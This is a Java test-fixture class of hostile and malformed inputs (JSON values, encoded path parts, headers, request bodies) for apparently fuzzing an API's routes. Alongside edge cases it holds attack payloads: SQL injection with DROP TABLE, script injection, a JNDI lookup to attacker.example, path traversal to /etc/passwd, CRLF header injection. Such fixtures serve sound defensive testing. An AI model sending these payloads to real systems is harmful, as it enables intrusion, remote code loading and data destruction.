package in.syncad.api.routes;

import java.util.List;
import java.util.stream.Stream;

/// What attackers and broken clients send in place of a value.
final class HostileValues {

    private static final String LONG = "x".repeat(10_000);

    /// As JSON, some of it such as no library writes.
    static final List<String> JSON = List.of(
            "null",
            "true",
            "[]",
            "{}",
            "[null]",
            "[[]]",
            "{\"id\":null}",
            "0",
            "-0",
            "-1",
            "1.5",
            "1e400",
            "-1e400",
            "9223372036854775808",
            "1" + "0".repeat(400),
            "\"\"",
            "\"   \"",
            "\"\\u3000\"",
            "\"" + LONG + "\"",
            "\"a\\u0000b\"",
            "\"\\ud800\"",
            "\"\\udc00\\ud800\"",
            "\"\\ufeffA\"",
            "\"\\ufffe\"",
            "\"\\u202egnp.exe\"",
            "\"line\\r\\nSet-Cookie: a=b\"",
            "\"\\u001b[31m\"",
            "\"' OR 1=1; DROP TABLE student; --\"",
            "\"<script>alert(1)</script>\"",
            "\"${jndi:ldap://attacker.example/a}\"",
            "\"{{7*7}}\"",
            "\"%s%n%x\"",
            "\"../../../etc/passwd\"",
            "\"0000-01-01\"",
            "\"-0001-01-01\"",
            "\"99999-12-31\"",
            "\"+999999999-12-31\"",
            "\"2023-02-29\"",
            "\"2023-02-28T00:00:00Z\"",
            "\"00000000-0000-0000-0000-000000000000\"",
            "\"1-1-1-1-1\"",
            "\"1\"",
            "\"-1\"",
            "\"NaN\"",
            "\"true\"",
            "\"\\ud83d\\udc69\\u200d\\ud83d\\udc67\"",
            "\"\\u0915\\u094d\\u200d\\u0937\"");

    /// As part of a path or a query, encoded.
    static final List<String> ENCODED = List.of(
            "",
            "%20",
            "%00",
            "a%00b",
            "%ff%fe",
            "%ed%a0%80",
            "%e2%80%ae",
            "%0d%0aSet-Cookie:%20a=b",
            "x".repeat(4_000),
            "'%20OR%201=1;--",
            "%3Cscript%3Ealert(1)%3C/script%3E",
            "..%2f..%2fetc",
            "%2e%2e",
            ";a=b",
            "null",
            "undefined",
            "true",
            "-0",
            "-1",
            "0",
            "1e400",
            "1.5",
            "9223372036854775808",
            "NaN",
            "0000-01-01",
            "99999-12-31",
            "2023-02-29",
            "00000000-0000-0000-0000-000000000000",
            "1-1-1-1-1",
            "%7B%7D",
            "%5B%5D",
            "%F0%9F%91%A9");

    /// As the value of a header.
    static final List<String> HEADER = List.of(
            "",
            " ",
            "*",
            "\"\"",
            "W/\"1\"",
            "\"1\", \"2\"",
            "\"9223372036854775808\"",
            "\"-1\"",
            "-1",
            "null",
            "'; DROP TABLE student; --",
            "<script>",
            "../..",
            "x".repeat(200),
            "x".repeat(10_000));

    /// As a body.
    static final List<String> BODIES = Stream.of(
                    "",
                    " ",
                    "null",
                    "[]",
                    "[{}]",
                    "{}",
                    "5",
                    "\"text\"",
                    "{",
                    "}",
                    "{}{}",
                    "{\"a\":1,\"a\":2}",
                    "{'a':1}",
                    "{\"a\":NaN}",
                    "{\"\":1}",
                    "\u0000",
                    "<a/>",
                    "a=b&c=d",
                    "[".repeat(20_000),
                    "{\"a\":".repeat(20_000),
                    "{\"" + LONG + "\":1}",
                    "\"" + "x".repeat(1_000_000) + "\"",
                    "1".repeat(100_000))
            .toList();

    private HostileValues() {}
}
